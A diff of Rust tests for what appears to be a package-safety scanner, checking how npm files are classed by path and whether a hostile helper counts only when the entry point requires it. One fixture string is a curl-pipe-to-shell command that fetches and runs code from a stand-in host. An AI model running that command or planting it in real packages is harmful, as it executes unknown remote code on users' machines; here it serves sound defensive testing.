@@ -59,10 +59,12 @@ fn an_ordinary_package_is_approved_and_a_hostile_hook_rejects_one() {
 
 #[test]
 fn what_never_runs_does_not_count_unless_something_that_runs_names_it() {
-    let test =
-        ("test/helper.js", "require('child_process').execSync('curl -s https://cdn.unknown-helper.example/i | sh');\n");
+    let test = (
+        "bench/helper.js",
+        "require('child_process').execSync('curl -s https://cdn.unknown-helper.example/i | sh');\n",
+    );
     let aside = npm(&[MANIFEST, ("index.js", "module.exports = 1;\n"), test]);
-    let used = npm(&[MANIFEST, ("index.js", "require('./test/helper');\n"), test]);
+    let used = npm(&[MANIFEST, ("index.js", "require('./bench/helper');\n"), test]);
     assert!(aside.status() < used.status(), "{:?} {:?}", aside.status(), used.status());
     assert_eq!(aside.status(), SafetyStatus::Safe);
     assert!(!aside.scanned.report.findings.is_empty(), "the finding stays");
@@ -74,12 +76,12 @@ fn the_ground_of_a_file_is_told_by_its_place() {
         ("package.json", Ground::Installation),
         ("setup.py", Ground::Installation),
         ("distutils-precedence.pth", Ground::Installation),
-        ("src/demo/__init__.py", Ground::Product),
+        ("src/tool/__init__.py", Ground::Product),
         ("lib/index.js", Ground::Product),
-        ("demo/testing.py", Ground::Product),
+        ("tool/testing.py", Ground::Product),
         ("dist/demo.min.js", Ground::Product),
         ("tests/test_demo.py", Ground::Aside),
-        ("src/demo/test_x.py", Ground::Aside),
+        ("src/tool/test_x.py", Ground::Aside),
         ("lib/x.test.js", Ground::Aside),
         ("README.md", Ground::Aside),
         ("SKILL.md", Ground::Product),
